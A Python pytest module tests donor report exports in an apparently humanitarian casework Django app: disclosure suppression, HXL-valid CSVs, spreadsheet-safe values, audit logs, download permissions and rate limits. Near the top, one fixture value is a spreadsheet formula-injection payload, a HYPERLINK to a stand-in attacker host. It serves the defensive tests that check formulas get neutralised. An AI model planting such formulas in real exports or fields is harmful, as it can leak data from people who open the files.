"""Donor report exports: contents, suppression, formula neutralising, jobs and who may download."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, timedelta

import hxl
import pytest
from auditlog.models import LogEntry
from django.contrib.auth.models import Group, Permission
from django.urls import reverse
from django.utils import timezone
from hxl.scripts import EXIT_OK, hxlvalidate_main
from openpyxl import load_workbook

from casework.models import Department, Person
from casework.roles import PROGRAMME_MANAGER
from casework.tests.factories import UserFactory
from casework.throttling import UserLimit
from reporting import exports
from reporting.disclosure import default_bound, disclosure_apply, disclosure_note
from reporting.exports import CSV_COLUMNS, EXPORT_DIMS, SUPPRESSED_MARK, neutralise
from reporting.indicators import ALL, INDICATORS, report_compute
from reporting.periods import fiscal_year, period_parse
from reporting.synthetic import synthetic_generate

pytestmark = pytest.mark.urls("reporting.tests.export_urls_for_tests")

PERIOD = "FY2025"
EVIL = '=HYPERLINK("http://attacker.example/?leak","Click")'
K = 10


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    settings.REPORTING_DISCLOSURE_K = K
    return tmp_path


@pytest.fixture
def dataset(db):
    """Synthetic returns over FY2025, one department of origin renamed to a formula."""
    synthetic_generate(persons=400, seed=11, today=date(2025, 12, 1))
    department_id = (
        Person.objects.filter(origin_department__isnull=False)
        .values_list("origin_department", flat=True)
        .first()
    )
    Department.objects.filter(pk=department_id).update(name=EVIL)
    return department_id


@pytest.fixture
def donor(db):
    user = UserFactory(username="donor_export")
    user.user_permissions.add(Permission.objects.get(codename="view_aggregates"))
    return user


@pytest.fixture
def other_donor(db):
    user = UserFactory(username="donor_other")
    user.user_permissions.add(Permission.objects.get(codename="view_aggregates"))
    return user


@pytest.fixture
def manager(center_a):
    user = UserFactory(username="manager_export")
    user.groups.add(Group.objects.get(name=PROGRAMME_MANAGER))
    from guardian.shortcuts import assign_perm

    assign_perm("casework.view_center_records", user, center_a)
    return user


def _build(user, kind: str) -> exports.ExportJob:
    job = exports.export_job_create(actor=user, kind=kind, period=PERIOD)
    return exports.export_job_run(job_id=job.id)


# --- contents -----------------------------------------------------------------------------------


def test_neutralise_prefixes_formula_starts_only():
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise(text) == "'" + text
    assert neutralise("Huehuetenango") == "Huehuetenango"
    assert neutralise(-5) == -5
    assert neutralise("0-4") == "0-4"


def test_xlsx_has_a_sheet_per_indicator_and_notes(db, dataset, donor):
    job = _build(donor, exports.XLSX)
    assert job.state == exports.DONE and job.progress == 100
    workbook = load_workbook(job.file_path, read_only=True)
    assert set(INDICATORS) <= set(workbook.sheetnames)
    notes_name = workbook.sheetnames[-1]
    notes = [c for row in workbook[notes_name].iter_rows(values_only=True) for c in row if c]
    text = " ".join(str(c) for c in notes)
    assert "FY2025" in text and disclosure_note(K) in text
    for code in INDICATORS:
        assert code in notes
    received = [list(r) for r in workbook["received"].iter_rows(values_only=True)]
    raw = report_compute(indicator="received", period=fiscal_year(2025))
    assert raw.total >= K
    shown = disclosure_apply(raw, k=K).total
    assert abs(shown - raw.total) <= default_bound()
    assert ["Total", shown] == received[3][:2]  # the headline, under name, definition, period


def test_xlsx_shows_the_published_values_and_never_a_small_count(db, dataset, donor):
    job = _build(donor, exports.XLSX)
    workbook = load_workbook(job.file_path, read_only=True)
    for code in INDICATORS:
        for row in workbook[code].iter_rows(values_only=True):
            for value in row[1:]:  # count and quantity, after the name (and the code)
                if isinstance(value, int) and not isinstance(value, bool):
                    assert value == 0 or value >= K, (code, row)
                assert value != SUPPRESSED_MARK  # perturbed, never withheld
    # The values are exactly those the cell-key method publishes (the same as the API's).
    table = disclosure_apply(
        report_compute(indicator="received", period=fiscal_year(2025), dims=("department",)), k=K
    )
    shown = [
        value
        for row in workbook["received"].iter_rows(values_only=True)
        for value in row[1:]  # after the name: the department's code, then its count
        if isinstance(value, int)
    ]
    published = [table.cells[(row, ALL)] for row in table.rows]
    assert all(value in shown for value in published)


def test_formula_in_a_name_is_neutralised_in_xlsx_and_csv(db, dataset, donor):
    job = _build(donor, exports.XLSX)
    workbook = load_workbook(job.file_path)  # not read-only: formulas would show as such
    labels = [c.value for ws in workbook for row in ws.iter_rows() for c in row if c.value]
    assert "'" + EVIL in labels
    assert EVIL not in labels
    assert not any(c.data_type == "f" for ws in workbook for row in ws.iter_rows() for c in row)

    job = _build(donor, exports.CSV)
    rows = list(csv.reader(io.StringIO(job.file_path.read_text(encoding="utf-8-sig"))))
    values = [v for row in rows for v in row]
    assert "'" + EVIL in values and EVIL not in values


def test_csv_has_the_hxl_hashtag_row_and_only_safe_counts(db, dataset, donor):
    job = _build(donor, exports.CSV)
    rows = list(csv.reader(io.StringIO(job.file_path.read_text(encoding="utf-8-sig"))))
    assert rows[0] == [name for name, _tag in CSV_COLUMNS]
    assert rows[1] == [tag for _name, tag in CSV_COLUMNS]
    assert "#adm1+code" in rows[1] and "#date+start" in rows[1]
    body = [dict(zip(rows[0], r, strict=True)) for r in rows[2:]]
    assert {r["indicator"] for r in body} == set(INDICATORS)
    for r in body:
        # Every value is published (perturbed, never withheld), and none from 1 to k-1.
        assert r["value"] != "" and r["suppressed"] != "yes"
        assert int(r["value"]) == 0 or int(r["value"]) >= K
        assert r["period_start"] == "2024-10-01" and r["period_end"] == "2025-09-30"


# --- files that open correctly: HXL, encoding, types in spreadsheets ----------------------------

# HXL 1.1 core hashtags the CSV may use; any other must be an extension (#x_...).
HXL_CORE = {"#indicator", "#date", "#adm1", "#country", "#meta", "#org", "#reached", "#affected"}
# What a spreadsheet (Excel, LibreOffice) turns into a number or a date when it opens a CSV:
# digits with a sign in front or behind ("60+" becomes 60), day-month shapes ("5-11", "12-17").
SPREADSHEET_NUMBER = re.compile(r"^\s*[+-]?\d+([.,]\d+)?\s*[+-]?\s*$")
SPREADSHEET_DATE = re.compile(r"^\s*\d{1,4}\s*[-/.]\s*\d{1,4}(\s*[-/.]\s*\d{1,4})?\s*$")


def _csv_file(period_text: str, directory) -> tuple:
    period = period_parse(period_text)
    reports = exports.report_build(period=period, center_ids=None, k=K)
    path = directory / "export.csv"
    exports.csv_write(reports, path=path, period=period)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    return path, rows


@pytest.mark.parametrize(
    "period",
    ["FY2025", "FY2025-Q2", "2025-03", "2025", "2024-11-15..2025-02-14"],
    ids=["fiscal_year", "fiscal_quarter", "month", "calendar_year", "date_range"],
)
def test_csv_of_every_period_kind_passes_the_hxl_validator(db, dataset, media, period):
    path, rows = _csv_file(period, media)
    # libhxl's `hxlvalidate` command (its default core schema), run in process.
    output = io.StringIO()
    status = hxlvalidate_main(["--error-level", "warning", str(path)], stdout=output)
    assert status == EXIT_OK, output.getvalue()[:2000]
    assert "0 error(s), 0 warnings" in output.getvalue()
    # Every indicator and every disaggregation the export offers is in the file validated.
    body = [dict(zip(rows[0], r, strict=True)) for r in rows[2:]]
    offered = {(r["indicator"], r["disaggregation"]) for r in body}
    assert {(code, "sex") for code in INDICATORS} <= offered
    assert {(code, "age_band") for code in INDICATORS} <= offered
    assert {r["disaggregation"] for r in body} == {"total", *EXPORT_DIMS}
    parsed = period_parse(period)
    assert {(r["period_start"], r["period_end"]) for r in body} == {
        (parsed.start.isoformat(), parsed.end.isoformat())
    }


def test_csv_uses_hxl_core_hashtags_or_extensions():
    for _name, tag in CSV_COLUMNS:
        column = hxl.model.Column.parse(tag)
        assert column.tag in HXL_CORE or column.tag.startswith("#x_"), tag
        assert not (column.tag == "#date" and "period" in column.attributes), tag
    tags = [tag for _name, tag in CSV_COLUMNS]
    assert "#date+start" in tags and "#date+end" in tags


def test_csv_has_a_byte_order_mark_and_reads_back_accents(db, dataset, donor):
    solola = Department.objects.get(iso_code="GT-07")
    assert solola.name == "Sololá"
    Person.objects.filter(
        pk__in=Person.objects.filter(arrivals__isnull=False).values("pk")[:3]
    ).update(origin_department=solola)
    job = _build(donor, exports.CSV)
    data = job.file_path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0][0] == "indicator"  # no stray mark in the first header
    assert "Sololá" in [v for row in rows for v in row]


def test_age_band_60_plus_stays_text_in_csv_and_xlsx(db, dataset, donor):
    job = _build(donor, exports.CSV)
    rows = list(csv.reader(io.StringIO(job.file_path.read_text(encoding="utf-8-sig"))))
    bands = {r[rows[0].index("age_band")] for r in rows[2:] if r[rows[0].index("age_band")]}
    assert any(band.startswith("60+") for band in bands), bands
    for band in bands:
        assert not SPREADSHEET_NUMBER.match(band), band
        assert not SPREADSHEET_DATE.match(band), band

    job = _build(donor, exports.XLSX)
    sheet = load_workbook(job.file_path)["received"]
    cells = [row[0] for row in sheet.iter_rows() if row[0].value == "60+"]
    assert cells and all(c.data_type == "s" for c in cells)


def test_xlsx_shows_department_codes_beside_names(db, dataset, donor):
    """La Paz is a department of Honduras (HN-LP) and of El Salvador (SV-PA)."""
    la_paz = {d.iso_code: d for d in Department.objects.filter(iso_code__in=["HN-LP", "SV-PA"])}
    assert {d.name for d in la_paz.values()} == {"La Paz"}
    people = list(Person.objects.filter(arrivals__isnull=False).values_list("pk", flat=True)[:40])
    Person.objects.filter(pk__in=people[:20]).update(origin_department=la_paz["HN-LP"])
    Person.objects.filter(pk__in=people[20:]).update(origin_department=la_paz["SV-PA"])
    job = _build(donor, exports.XLSX)
    rows = [list(r) for r in load_workbook(job.file_path)["received"].iter_rows(values_only=True)]
    beside = {tuple(row[i - 1 : i + 1]) for row in rows for i, v in enumerate(row) if v == "La Paz"}
    assert beside == {("HN-LP", "La Paz"), ("SV-PA", "La Paz")}


def test_a_programme_manager_exports_only_their_centres(db, manager, center_a):
    job = exports.export_job_create(actor=manager, kind=exports.CSV, period=PERIOD)
    assert job.center_ids == [center_a.pk]


def test_every_export_is_audited(db, donor):
    job = exports.export_job_create(actor=donor, kind=exports.XLSX, period=PERIOD)
    entry = LogEntry.objects.get(actor=donor, action=LogEntry.Action.ACCESS)
    assert entry.changes == {"export": ["xlsx", "FY2025"]}
    assert entry.additional_data["job"] == job.id


# --- pages --------------------------------------------------------------------------------------


def test_start_runs_the_export_in_process_without_a_broker(
    db, client, donor, eager, django_capture_on_commit_callbacks
):
    client.force_login(donor)
    assert client.get(reverse("reporting_exports:export_start")).status_code == 200
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("reporting_exports:export_start"), {"period": PERIOD, "kind": "xlsx"}
        )
    assert response.status_code == 302
    job_id = response.url.rstrip("/").rsplit("/", 1)[-1]
    status = client.get(response.url)
    assert status.status_code == 200
    assert b"<progress" in status.content
    assert b'http-equiv="refresh"' not in status.content  # finished: no more refreshing
    download = client.get(reverse("reporting_exports:export_download", args=[job_id]))
    assert download.status_code == 200
    assert download["Content-Disposition"].startswith("attachment")
    body = b"".join(download.streaming_content)
    assert load_workbook(io.BytesIO(body), read_only=True).sheetnames
    audited = [e.changes for e in LogEntry.objects.filter(actor=donor).order_by("pk")]
    assert audited == [{"export": ["xlsx", PERIOD]}, {"export_download": ["xlsx", PERIOD]}]


def test_pending_status_page_refreshes_without_javascript(db, client, donor):
    job = exports.export_job_create(actor=donor, kind=exports.XLSX, period=PERIOD)
    client.force_login(donor)
    page = client.get(reverse("reporting_exports:export_status", args=[job.id]))
    assert page.status_code == 200
    html = page.content.decode()
    assert 'http-equiv="refresh"' in html and 'hx-trigger="every 2s"' in html
    assert '<progress max="100" value="0">' in html
    assert reverse("reporting_exports:export_status", args=[job.id]) in html  # manual refresh
    not_yet = client.get(reverse("reporting_exports:export_download", args=[job.id]))
    assert not_yet.status_code == 404


def test_a_bad_period_is_a_form_error(db, client, donor):
    client.force_login(donor)
    response = client.post(
        reverse("reporting_exports:export_start"),
        {"period": "2025-01-01..2025-01-02", "kind": "csv"},
    )
    assert response.status_code == 200
    assert response.context["form"].errors["period"]


def test_only_the_creator_sees_or_downloads_the_export(db, client, donor, other_donor, manager):
    job = _build(donor, exports.CSV)
    status_url = reverse("reporting_exports:export_status", args=[job.id])
    download_url = reverse("reporting_exports:export_download", args=[job.id])
    for outsider in (other_donor, manager):
        client.force_login(outsider)
        assert client.get(status_url).status_code == 404
        assert client.get(download_url).status_code == 404
    client.logout()
    assert client.get(download_url).status_code == 302  # to the login page
    client.force_login(donor)
    assert client.get(download_url).status_code == 200


def test_users_without_the_right_cannot_start_exports(db, client, caseworker):
    client.force_login(caseworker)
    response = client.post(
        reverse("reporting_exports:export_start"), {"period": PERIOD, "kind": "csv"}
    )
    assert response.status_code == 403
    assert not list(exports.exports_root().glob("*/status.json"))


def test_an_expired_export_is_gone(db, client, donor, media):
    job = _build(donor, exports.CSV)
    job.expires_at = (timezone.now() - timedelta(minutes=1)).isoformat()
    exports.export_job_save(job)
    client.force_login(donor)
    response = client.get(reverse("reporting_exports:export_download", args=[job.id]))
    assert response.status_code == 404
    assert "reporting/export_expired.html" in [t.name for t in response.templates]
    assert client.get(reverse("reporting_exports:export_status", args=[job.id])).status_code == 404

    fresh = exports.export_job_create(actor=donor, kind=exports.CSV, period=PERIOD)
    assert exports.exports_purge_expired() == 1
    assert not job.directory.exists() and fresh.directory.exists()


def test_exports_past_the_users_limit_are_refused(db, client, donor, other_donor, monkeypatch):
    monkeypatch.setitem(UserLimit.THROTTLE_RATES, exports.EXPORT_LIMIT_SCOPE, "2/hour")
    start = reverse("reporting_exports:export_start")
    client.force_login(donor)
    asked = {"period": PERIOD, "kind": "csv"}
    answers = [client.post(start, asked, HTTP_ACCEPT_LANGUAGE="en") for _ in range(3)]

    assert [a.status_code for a in answers] == [302, 302, 429]
    assert "You have prepared as many exports as allowed for now." in answers[2].content.decode()
    assert "about 60 minutes" in answers[2].content.decode()
    assert len(list(exports.jobs_of(donor))) == 2, "the refused export was not started"
    client.force_login(other_donor)
    assert client.post(start, asked).status_code == 302, "the limit is per user"
